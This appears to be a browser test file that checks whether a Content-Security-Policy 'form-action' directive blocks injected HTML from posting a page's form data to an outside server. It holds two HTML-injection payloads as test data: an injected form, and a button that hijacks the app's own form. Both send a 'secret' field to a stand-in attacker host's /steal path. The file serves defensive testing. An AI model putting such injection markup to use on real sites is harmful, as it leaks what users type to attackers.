import type { BrowserContext, Page } from 'playwright';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { directives, GUARDS, POLICIES, withDirective } from '../../../src/cli/headers/policies.ts';
import { headerOf, nonceOf, SOME_POLICIES } from '../../headers/policies.ts';
import { addStranger, STRANGER, type Stranger } from '../../headers/stranger.ts';
import { violations, watchViolations } from '../../headers/violations.ts';
import { type Harness, sharedHarness } from '../../support/harness.ts';

/** A form of the app's own. */
const OWN_FORM = '<form id="own"><input name="note" value="secret"></form>';

/** What an attacker injects. Each element sends what the user has typed to the attacker's server. */
const ATTACKS = [
  {
    what: 'a form',
    markup: `<form action="${STRANGER}/steal" method="post"><input name="note" value="secret"><button>OK</button></form>`,
  },
  {
    what: 'a button for the app’s form',
    markup: `<button form="own" formaction="${STRANGER}/steal" formmethod="post">OK</button>`,
  },
];

let harness: Harness;
let stranger: Stranger;
let context: BrowserContext;
let page: Page;
beforeAll(async () => {
  harness = await sharedHarness();
  context = await harness.newContext();
});
afterAll(async () => {
  await context.close();
  await harness.stop();
});
beforeEach(() => {
  harness.zoom.reset();
  harness.pages.reset();
  stranger = addStranger(harness.zoom);
});
afterEach(() => page.close());

/** Opens the app's page with its own form and the injected markup. The user presses the button. */
async function press(policy: readonly string[], markup: string, nonce?: string): Promise<void> {
  Object.assign(harness.pages, {
    headers: headerOf(policy),
    nonce,
    inject: (html: string) => html.replace('<body>', `<body>${OWN_FORM}${markup}`),
  });
  page = await context.newPage();
  await watchViolations(page);
  await page.goto(harness.pages.url('react-19'), { waitUntil: 'commit' });
  // `click()` would wait for the page that the form leads to, which may never come.
  await page.getByRole('button', { name: 'OK' }).dispatchEvent('click');
}

async function expectRefusal(): Promise<void> {
  await expect
    .poll(async () => (await violations(page)).map(({ directive, blocked }) => [directive, blocked]))
    .toEqual([['form-action', `${STRANGER}/steal`]]);
  expect(page.url()).toBe(harness.pages.url('react-19'));
  expect(stranger.requests).toEqual([]);
}

describe.each(SOME_POLICIES)('under the policy: %s', (name) => {
  const nonce = nonceOf(name);

  it.each(ATTACKS)('$what: nothing is sent', async ({ markup }) => {
    await press(directives(POLICIES[name]), markup, nonce);
    await expectRefusal();
  });

  it.each(ATTACKS)('$what: without `form-action`, the attacker gets it', async ({ markup }) => {
    await press(directives(POLICIES[name], GUARDS['form-action']), markup, nonce);
    // The browser may also ask for the icon of that site.
    await expect.poll(() => stranger.requests).toContain('POST /steal note=secret');
  });
});

describe("with `form-action 'self'`, for an app whose forms the browser submits", () => {
  const policy = withDirective(directives(POLICIES['self-hosted']), 'form-action', "'self'");

  it('the app’s form is sent', async () => {
    await press(policy, '<button form="own" formaction="/saved">OK</button>');
    await expect.poll(() => harness.pages.requested).toContain('/saved?note=secret');
  });

  it.each(ATTACKS)('$what: nothing is sent', async ({ markup }) => {
    await press(policy, markup);
    await expectRefusal();
  });
});
